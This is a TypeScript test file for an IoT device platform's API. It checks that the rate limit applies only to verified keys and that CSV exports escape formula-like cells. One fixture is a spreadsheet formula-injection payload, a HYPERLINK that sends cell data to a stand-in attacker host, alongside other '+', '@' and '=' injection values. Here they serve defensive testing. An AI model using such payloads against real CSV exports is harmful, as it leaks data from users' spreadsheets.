// The security review's findings, each shown against real servers over real sockets: the API rate limit is keyed
// only on verified keys, and CSV cells cannot become spreadsheet formulas.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../api/csv.js';
import { ADMIN_KEY, startTestPlatform, type TestPlatform } from './support/platform.js';

let tp: TestPlatform;
beforeAll(async () => {
  tp = await startTestPlatform();
});
afterAll(async () => {
  await tp?.stop();
});

describe('API rate limit', () => {
  it('keys on a key only once it has been verified: pk_<real id>.wrong spends the address\'s allowance, not the key\'s', async () => {
    const limited = await startTestPlatform({ PANTAU_API_RATE_LIMIT: '5' });
    try {
      const viewer = (await limited.api('POST', '/api/v1/keys', { body: { name: 'wall', role: 'viewer' } })).body.key as string;
      const id = /^pk_([0-9a-f]{12})\./.exec(viewer)![1]!;
      // the first use verifies the key (counted against the address, like any key not verified before)
      expect((await limited.api('GET', '/api/v1/devices', { key: viewer })).status).toBe(200);
      // someone who knows only the key id
      const forged: number[] = [];
      for (let i = 0; i < 10; i++) forged.push((await limited.api('GET', '/api/v1/devices', { key: `pk_${id}.garbage-garbage-${i}` })).status);
      expect(forged.slice(0, 4)).toEqual([401, 401, 401, 401]);
      expect(forged.slice(-3)).toEqual([429, 429, 429]);
      // the key's owner still has its whole allowance
      const own: number[] = [];
      for (let i = 0; i < 5; i++) own.push((await limited.api('GET', '/api/v1/devices', { key: viewer })).status);
      expect(own).toEqual([200, 200, 200, 200, 200]);
      expect((await limited.api('GET', '/api/v1/devices', { key: viewer })).status).toBe(429);
    } finally {
      await limited.stop();
    }
  });
});

describe('CSV answers', () => {
  const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"details")';

  it('the fleet export writes a formula-like name, city and district as text, and numbers as numbers', async () => {
    const dev = await tp.register('flood', 'csv-formula-01', { name: HYPERLINK, city: '+Samarinda', district: '@SUM(1+1)', location: { lat: -0.5, lon: 117.15 } });
    const res = await tp.api('GET', '/api/v1/devices?format=csv');
    expect(res.status).toBe(200);
    const rows = parseCsv(res.text);
    const header = rows[0]!;
    const row = Object.fromEntries(header.map((h, i) => [h, rows.find((r) => r[0] === dev.id)![i]]));
    expect(row).toMatchObject({ name: `'${HYPERLINK}`, city: "'+Samarinda", district: "'@SUM(1+1)", lat: '-0.5', lon: '117.15' });
    // no cell of the file starts a formula
    for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
  });

  it('readings CSV keeps negative values as numbers; the import\'s CSV answer keeps its tokens exactly', async () => {
    const dev = await tp.register('air', 'csv-readings-01');
    const client = await tp.connect(dev.id, dev.token);
    await client.publishAsync(`sensors/air/${dev.id}/telemetry`, JSON.stringify({ pm25: 12, rssi: -71 }), { qos: 1 });
    await tp.drained();
    const csv = await tp.api('GET', `/api/v1/devices/${dev.id}/readings?fields=pm25,rssi`, { headers: { accept: 'text/csv' } });
    expect(csv.status).toBe(200);
    const rows = parseCsv(csv.text);
    expect(rows[0]).toEqual(['ts', 'pm25', 'rssi']);
    expect(rows[1]!.slice(1)).toEqual(['12', '-71']);

    const body = 'id,kind,name,city,district,lat,lon\ncsv-import-01,air,=1+2,Samarinda,Ulu,-0.5,117.1\n';
    const res = await fetch(`${tp.platform.httpUrl}/api/v1/devices/import`, {
      method: 'POST',
      headers: { authorization: `Bearer ${ADMIN_KEY}`, 'content-type': 'text/csv', accept: 'text/csv' },
      body,
    });
    expect(res.status).toBe(201);
    const answer = parseCsv(await res.text());
    expect(answer[0]).toEqual(['id', 'token']);
    const [id, token] = answer[1]!;
    // the token works as written (a leading ' would break a token that starts with -)
    const imported = await tp.connect(id!, token!);
    expect(imported.connected).toBe(true);
    const fleet = parseCsv((await tp.api('GET', '/api/v1/devices?format=csv')).text);
    expect(fleet.find((r) => r[0] === 'csv-import-01')![2]).toBe("'=1+2");
  });
});
